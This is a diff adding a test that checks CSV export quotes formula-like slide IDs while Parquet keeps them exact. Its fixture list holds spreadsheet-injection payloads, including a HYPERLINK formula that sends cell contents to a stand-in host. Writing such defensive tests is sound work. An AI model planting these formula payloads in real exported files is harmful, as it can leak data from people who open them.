@@ -224,6 +224,25 @@ def test_a_bag_not_predicted_is_neither_positive_nor_negative_and_is_not_evaluat
     assert "least certain" not in no_std  # AbSMIL gives none
 
 
+def test_csv_tables_show_a_formula_like_id_as_text_and_parquet_keeps_it_exact(tmp_path):
+    """A slide named ``=HYPERLINK(…)`` (a shared folder's file names are anyone's) became a live
+    formula when ``bag_predictions.csv`` was opened in a spreadsheet; numbers stay numbers."""
+    import csv
+
+    import pandas as pd
+
+    ids = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+cmd", "-2+3", "\t=1+1", "-0.5", "+3", "slide-07"]
+    table = pd.DataFrame({"bag_id": ids, "probability": np.linspace(0, 1, len(ids)), "label": ["-1"] * len(ids)})
+    csv_path, parquet_path = report.write_tables(table, tmp_path)
+    with open(csv_path, newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["bag_id"] for r in rows] == [
+        """'=HYPERLINK("http://x.example/?"&A1,"open")""", "'@SUM(A1:A9)", "'+cmd", "'-2+3", "'\t=1+1", "-0.5", "+3", "slide-07"]
+    assert [r["label"] for r in rows] == ["-1"] * len(ids)
+    assert pd.read_parquet(parquet_path)["bag_id"].tolist() == ids
+    assert table["bag_id"].tolist() == ids  # the caller's table is left as it was
+
+
 def test_markdown_cells_keep_an_id_with_a_pipe_or_a_newline_in_one_column():
     import pandas as pd
 
